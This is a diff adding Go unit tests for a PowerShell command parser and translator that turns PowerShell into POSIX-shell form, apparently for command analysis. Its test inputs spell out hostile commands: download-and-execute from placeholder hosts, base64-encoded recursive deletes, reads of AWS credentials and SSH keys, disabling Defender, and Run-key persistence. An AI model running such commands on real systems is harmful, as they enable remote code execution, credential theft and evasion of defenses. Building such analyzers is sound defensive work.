@@ -1,0 +1,121 @@
+package powershell
+
+import (
+	"encoding/base64"
+	"slices"
+	"strings"
+	"testing"
+	"unicode/utf16"
+)
+
+// utf16le encodes s as -EncodedCommand wants it.
+func utf16le(s string) string {
+	u := utf16.Encode([]rune(s))
+	b := make([]byte, 2*len(u))
+	for i, c := range u {
+		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
+	}
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+func TestParse(t *testing.T) {
+	tests := []struct {
+		src  string
+		want [][]string // pipelines of commands, words joined by spaces
+	}{
+		{"a b; c | d", [][]string{{"a b"}, {"c", "d"}}},
+		{"a && b || c", [][]string{{"a"}, {"b"}, {"c"}}},
+		{`'it''s' "a ""b"" c" x` + "`" + ` y`, [][]string{{`it's a "b" c x y`}}},
+		{"a `\n b", [][]string{{"a b"}}},
+		{"a # comment\nb <# block #> c", [][]string{{"a"}, {"b c"}}},
+		{"& 'C:\\Program Files\\x.exe' -y", [][]string{{`C:\Program Files\x.exe -y`}}},
+		{"(iwr u).Content | iex", [][]string{{"(iwr u).Content", "iex"}}},
+		{"rm a,b", [][]string{{"rm a b"}}},
+		{"a > out.txt 2>&1", [][]string{{"a"}}},
+	}
+	for _, tt := range tests {
+		var got [][]string
+		for _, p := range Parse(tt.src) {
+			var cmds []string
+			for _, c := range p.Commands {
+				var ws []string
+				for _, w := range c.Words {
+					ws = append(ws, w.Text)
+				}
+				cmds = append(cmds, strings.Join(ws, " "))
+			}
+			got = append(got, cmds)
+		}
+		if !slices.EqualFunc(got, tt.want, slices.Equal) {
+			t.Errorf("Parse(%q) = %q, want %q", tt.src, got, tt.want)
+		}
+	}
+}
+
+func TestTranslate(t *testing.T) {
+	tests := []struct {
+		src  string
+		want string
+	}{
+		{"Remove-Item -Recurse -Force ~/Documents", "rm -r -f ~/Documents"},
+		{`rm -r -fo C:\src`, "rm -r -f C:/src"},
+		{"ri ~/x -Recurse", "rm -r ~/x"},
+		{"del notes.txt", "rm notes.txt"},
+		{"iwr https://203.0.113.10/a.ps1 | iex", "curl https://203.0.113.10/a.ps1 | sh"},
+		{"Invoke-RestMethod -Uri https://x.example/u -Method Post -Body $b", `curl -X Post --data "${b}" https://x.example/u`},
+		{"iex (iwr https://x/a.ps1).Content", `sh -c "$(curl https://x/a.ps1)"`},
+		{"IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')", `sh -c "$(curl http://x/p.ps1)"`},
+		{"(New-Object Net.WebClient).DownloadFile('http://x/a.exe', \"$env:TEMP\\a.exe\")", "curl -o '$env:TEMP/a.exe' http://x/a.exe"},
+		{"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + utf16le("rm -r -fo ~") + "')))", "sh -c 'rm -r -f ~'"},
+		{"gc ~/.aws/credentials", "cat ~/.aws/credentials"},
+		{"type $HOME\\.ssh\\id_rsa", `cat "${HOME}/.ssh/id_rsa"`},
+		{"Get-Content $env:USERPROFILE\\.ssh\\id_rsa", `cat "${HOME}/.ssh/id_rsa"`},
+		{"'x' | Set-Content -Path ~/.bashrc", "printf '%s\\n' x | cat > ~/.bashrc"},
+		{"Add-Content ~/.profile 'iex x'", "printf '%s\\n' 'iex x' >> ~/.profile"},
+		{"Get-ChildItem env:", "env"},
+		{"gci env:AWS_SECRET_ACCESS_KEY", "printenv AWS_SECRET_ACCESS_KEY"},
+		{"ls env:* | Out-File e.txt", "env | cat > e.txt"},
+		{"echo $env:GITHUB_TOKEN", `echo "${GITHUB_TOKEN}"`},
+		{"$env:X = 'a'; $u = 'https://x'; iwr $u", "export X=a\nu=https://x\ncurl \"${u}\""},
+		{"Set-MpPreference -DisableRealtimeMonitoring $true", `Set-MpPreference -DisableRealtimeMonitoring "\$true"`},
+		{"New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value 'c:\\u.exe'", `reg add 'HKCU\Software\Microsoft\Windows\CurrentVersion\Run' /v u /d 'c:\u.exe'`},
+		{"Start-Process powershell -Verb RunAs -ArgumentList '-c x'", "sudo powershell -c x"},
+		{"Invoke-Command -ComputerName srv1 -ScriptBlock { Remove-Item -Recurse C:\\data }", "ssh srv1 'rm -r C:/data'"},
+		{"Start-Job { iwr http://x | iex }", "nohup sh -c 'curl http://x | sh' &"},
+		{"gci -Recurse | % { Remove-Item $_ -Force }", "ls | while read -r _; do rm -f \"${_}\"\ndone"},
+		{"Stop-Service WinDefend", "Stop-Service WinDefend"},
+		{"dotnet build; npm test", "dotnet build\nnpm test"},
+		{"[IO.File]::ReadAllText(\"$HOME\\.aws\\credentials\")", "cat '$HOME/.aws/credentials'"},
+		{"[Environment]::GetEnvironmentVariables()", "env"},
+	}
+	for _, tt := range tests {
+		if got := Translate(tt.src); got != tt.want {
+			t.Errorf("Translate(%q)\n got  %q\n want %q", tt.src, got, tt.want)
+		}
+	}
+}
+
+func TestScript(t *testing.T) {
+	tests := []struct {
+		args          []string
+		legacy        bool
+		code          string
+		stdin, hasRun bool
+	}{
+		{[]string{"-NoProfile", "-ExecutionPolicy", "Bypass", "-c", "Remove-Item", "x"}, false, "Remove-Item x", false, true},
+		{[]string{"-Command", "ls"}, false, "ls", false, true},
+		{[]string{"-nop", "-w", "hidden", "-enc", utf16le("iwr x | iex")}, false, "iwr x | iex", false, true},
+		{[]string{"-EncodedCommand:" + utf16le("ls")}, false, "ls", false, true},
+		{[]string{"-File", "build.ps1"}, false, "", false, false},
+		{[]string{"build.ps1"}, false, "", false, false},
+		{[]string{"Get-ChildItem", "env:"}, true, "Get-ChildItem env:", false, true},
+		{[]string{"-Command", "-"}, false, "", true, true},
+		{[]string{"-NoLogo"}, false, "", true, true},
+	}
+	for _, tt := range tests {
+		code, stdin, ok := Script(tt.args, tt.legacy)
+		if code != tt.code || stdin != tt.stdin || ok != tt.hasRun {
+			t.Errorf("Script(%q) = %q, %v, %v; want %q, %v, %v", tt.args, code, stdin, ok, tt.code, tt.stdin, tt.hasRun)
+		}
+	}
+}
